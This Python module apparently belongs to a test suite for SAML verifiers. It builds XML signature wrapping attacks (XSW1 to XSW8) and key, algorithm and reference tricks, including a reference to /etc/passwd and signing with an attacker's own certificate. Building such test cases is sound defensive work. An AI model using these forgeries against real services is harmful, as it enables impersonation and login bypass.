"""Class 3: XML signature wrapping, and tricks on keys and algorithms, for any signed SAML assertion.

Each takes the element that holds the assertion and the genuine assertion, and changes them in place. None of
them can make a new signature of the victim's: whatever is believed afterwards was not signed by them.
Sources: Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be" (2012), shapes XSW1 to XSW8;
CVE-2024-45409, CVE-2025-47949, CVE-2025-54419; W3C XML Signature Best Practices (2013).
"""

from __future__ import annotations

import base64
import copy
import datetime
import functools
from collections.abc import Callable

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from cryptography.x509.oid import NameOID
from lxml import etree
from signxml import XMLSigner, methods

Element = etree._Element
Trick = Callable[[Element, Element], None]
DSIG = "http://www.w3.org/2000/09/xmldsig#"
SOMEBODY_ELSE = "899700000099"
# Where nobody may be sent by a signature (loopback, discard port).
ELSEWHERE = "http://127.0.0.1:9/cle"


def forged(genuine: Element, identifier: str = "_forged") -> Element:
    """Return a twin that names somebody else, its signature gone."""
    twin = copy.deepcopy(genuine)
    twin.set("ID", identifier)
    twin.find("{*}Subject/{*}NameID").text = SOMEBODY_ELSE
    for value in twin.iterfind(".//{*}Attribute/{*}AttributeValue"):
        text = value.text or ""
        if "^^^" in text:
            value.text = "275126322074974" + text[15:]
    twin.remove(twin.find("{*}Signature"))
    return twin


def _dressed(genuine: Element, identifier: str = "_forged") -> Element:
    """Return a twin that carries a copy of the genuine signature."""
    twin = forged(genuine, identifier)
    twin.insert(1, copy.deepcopy(genuine.find("{*}Signature")))
    return twin


# --- Wrapping: the signature stays right, of an element that is no longer the one read. --------------------
def before(holder: Element, genuine: Element) -> None:
    holder.insert(0, forged(genuine))


def after(holder: Element, genuine: Element) -> None:
    holder.append(forged(genuine))


def inside_object(holder: Element, genuine: Element) -> None:
    twin = forged(genuine)
    signature = copy.deepcopy(genuine.find("{*}Signature"))
    holder.replace(genuine, twin)
    etree.SubElement(signature, f"{{{DSIG}}}Object").append(genuine)
    twin.insert(1, signature)


def inside_subject(holder: Element, genuine: Element) -> None:
    twin = _dressed(genuine)
    holder.replace(genuine, twin)
    twin.find("{*}Subject").append(genuine)


def same_identifier_before(holder: Element, genuine: Element) -> None:
    holder.insert(0, _dressed(genuine, genuine.get("ID", "")))


def same_identifier_inside(holder: Element, genuine: Element) -> None:
    twin = _dressed(genuine, genuine.get("ID", ""))
    holder.replace(genuine, twin)
    twin.append(genuine)


def in_another_header(holder: Element, genuine: Element) -> None:
    holder.replace(genuine, _dressed(genuine))
    etree.SubElement(holder.getparent(), "{urn:x}Kept").append(genuine)


def in_the_body(holder: Element, genuine: Element) -> None:
    holder.replace(genuine, _dressed(genuine))
    envelope = holder.getparent().getparent()
    next(child for child in envelope if etree.QName(child).localname == "Body").append(genuine)


WRAPPINGS: tuple[Trick, ...] = (
    before, after, inside_object, inside_subject, same_identifier_before, same_identifier_inside,
    in_another_header, in_the_body,
)  # fmt: skip


# --- Keys and algorithms: what is signed, how, by whom. ----------------------------------------------------
def _signature(genuine: Element) -> Element:
    return genuine.find("{*}Signature")


def _reference(genuine: Element) -> Element:
    return genuine.find(".//{*}SignedInfo/{*}Reference")


def _key_info(genuine: Element) -> Element:
    """Return KeyInfo, emptied."""
    info = genuine.find(".//{*}KeyInfo")
    for child in list(info):
        info.remove(child)
    return info


def unsigned(holder: Element, genuine: Element) -> None:
    holder.replace(genuine, forged(genuine, genuine.get("ID", "")))


def changed(holder: Element, genuine: Element) -> None:
    genuine.find("{*}Subject/{*}NameID").text = SOMEBODY_ELSE


def comment_in_identifier(holder: Element, genuine: Element) -> None:
    value = genuine.find("{*}Subject/{*}NameID")
    value.text = (value.text or "")[:-1]
    value.append(etree.Comment("x"))


def empty_reference(holder: Element, genuine: Element) -> None:
    _reference(genuine).set("URI", "")


def reference_elsewhere(holder: Element, genuine: Element) -> None:
    _reference(genuine).set("URI", ELSEWHERE)


def reference_to_a_file(holder: Element, genuine: Element) -> None:
    _reference(genuine).set("URI", "file:///etc/passwd")


def reference_by_xpointer(holder: Element, genuine: Element) -> None:
    _reference(genuine).set("URI", f"#xpointer(id('{genuine.get('ID')}'))")


def no_reference(holder: Element, genuine: Element) -> None:
    _reference(genuine).getparent().remove(_reference(genuine))


def two_references(holder: Element, genuine: Element) -> None:
    _reference(genuine).addnext(copy.deepcopy(_reference(genuine)))


def two_signatures(holder: Element, genuine: Element) -> None:
    genuine.append(copy.deepcopy(_signature(genuine)))


def _transform(algorithm: str, *children: Element) -> Trick:
    def change(holder: Element, genuine: Element) -> None:
        transforms = genuine.find(".//{*}Transforms")
        item = etree.SubElement(transforms, f"{{{DSIG}}}Transform", Algorithm=algorithm)
        item.extend(copy.deepcopy(child) for child in children)

    change.__name__ = f"transform {algorithm.rpartition('/')[2]}"
    return change


def _xpath(expression: str) -> Element:
    element = etree.Element(f"{{{DSIG}}}XPath")
    element.text = expression
    return element


def _algorithm(name: str, value: str) -> Trick:
    def change(holder: Element, genuine: Element) -> None:
        genuine.find(f".//{{{DSIG}}}{name}").set("Algorithm", value)

    change.__name__ = f"{name} {value.rpartition('#')[2] or value or 'none'}"
    return change


def truncated_hmac(holder: Element, genuine: Element) -> None:
    method = genuine.find(".//{*}SignatureMethod")
    method.set("Algorithm", f"{DSIG}hmac-sha1")
    etree.SubElement(method, f"{{{DSIG}}}HMACOutputLength").text = "0"
    genuine.find(".//{*}SignatureValue").text = ""


def empty_value(holder: Element, genuine: Element) -> None:
    genuine.find(".//{*}SignatureValue").text = ""


def value_of_zeros(holder: Element, genuine: Element) -> None:
    genuine.find(".//{*}SignatureValue").text = base64.b64encode(bytes(256)).decode()


def no_key(holder: Element, genuine: Element) -> None:
    _signature(genuine).remove(genuine.find(".//{*}KeyInfo"))


def bare_key(holder: Element, genuine: Element) -> None:
    value = etree.SubElement(_key_info(genuine), f"{{{DSIG}}}KeyValue")
    rsa_key = etree.SubElement(value, f"{{{DSIG}}}RSAKeyValue")
    etree.SubElement(rsa_key, f"{{{DSIG}}}Modulus").text = "AQAB"
    etree.SubElement(rsa_key, f"{{{DSIG}}}Exponent").text = "AQ=="


def key_elsewhere(holder: Element, genuine: Element) -> None:
    etree.SubElement(_key_info(genuine), f"{{{DSIG}}}RetrievalMethod", URI=ELSEWHERE)


@functools.cache
def _stranger() -> tuple[rsa.RSAPrivateKey, x509.Certificate]:
    """Return a key and a certificate that nobody vouches for."""
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "INCONNU (FICTIF)")])
    start = datetime.datetime(2026, 1, 1, tzinfo=datetime.UTC)
    builder = (
        x509.CertificateBuilder(name, name, key.public_key(), x509.random_serial_number())
        .not_valid_before(start)
        .not_valid_after(start + datetime.timedelta(days=3650))
    )
    return key, builder.sign(key, hashes.SHA256())


def _pem(certificate: x509.Certificate) -> str:
    return certificate.public_bytes(serialization.Encoding.PEM).decode()


def own_certificate(holder: Element, genuine: Element) -> None:
    """The attacker's key, its certificate in KeyInfo, the issuer still the victim's."""
    key, certificate = _stranger()
    twin = forged(genuine, genuine.get("ID", ""))
    twin.insert(1, etree.Element(f"{{{DSIG}}}Signature", Id="placeholder"))
    signer = XMLSigner(method=methods.enveloped, c14n_algorithm="http://www.w3.org/2001/10/xml-exc-c14n#")
    pem = key.private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
    )
    signed = signer.sign(
        twin, key=pem, cert=_pem(certificate), reference_uri=twin.get("ID"), id_attribute="ID"
    )
    holder.replace(genuine, signed)


def victims_certificate_first(holder: Element, genuine: Element) -> None:
    """The attacker's signature, the victim's certificate before the attacker's in KeyInfo."""
    victim = copy.deepcopy(genuine.find(".//{*}X509Certificate"))
    own_certificate(holder, genuine)
    holder.find(".//{*}X509Data").insert(0, victim)


def strangers_certificate(holder: Element, genuine: Element) -> None:
    """The genuine signature, under a certificate that did not make it."""
    der = _stranger()[1].public_bytes(serialization.Encoding.DER)
    genuine.find(".//{*}X509Certificate").text = base64.b64encode(der).decode()


def unreadable_certificate(holder: Element, genuine: Element) -> None:
    genuine.find(".//{*}X509Certificate").text = "AAAA"


MORE = "http://www.w3.org/2001/04/xmldsig-more#"
TRICKS: tuple[Trick, ...] = (
    unsigned, changed, comment_in_identifier, empty_reference, reference_elsewhere, reference_to_a_file,
    reference_by_xpointer, no_reference, two_references, two_signatures, truncated_hmac, empty_value,
    value_of_zeros, no_key, bare_key, key_elsewhere, own_certificate, victims_certificate_first,
    strangers_certificate, unreadable_certificate,
    _transform("http://www.w3.org/TR/1999/REC-xslt-19991116"),
    _transform("http://www.w3.org/TR/1999/REC-xpath-19991116", _xpath("false()")),
    _transform("http://www.w3.org/2002/06/xmldsig-filter2"),
    _transform(f"{DSIG}base64"),
    _algorithm("SignatureMethod", f"{DSIG}hmac-sha1"),
    _algorithm("SignatureMethod", f"{DSIG}rsa-sha1"),
    _algorithm("SignatureMethod", f"{MORE}rsa-md5"),
    _algorithm("SignatureMethod", f"{MORE}hmac-sha256"),
    _algorithm("SignatureMethod", f"{MORE}ecdsa-sha256"),
    _algorithm("SignatureMethod", ""),
    _algorithm("DigestMethod", f"{DSIG}sha1"),
    _algorithm("DigestMethod", f"{MORE}md5"),
    _algorithm("CanonicalizationMethod", "http://www.w3.org/TR/2001/REC-xml-c14n-20010315"),
    _algorithm("CanonicalizationMethod", "http://www.w3.org/2006/12/xml-c14n11"),
)  # fmt: skip
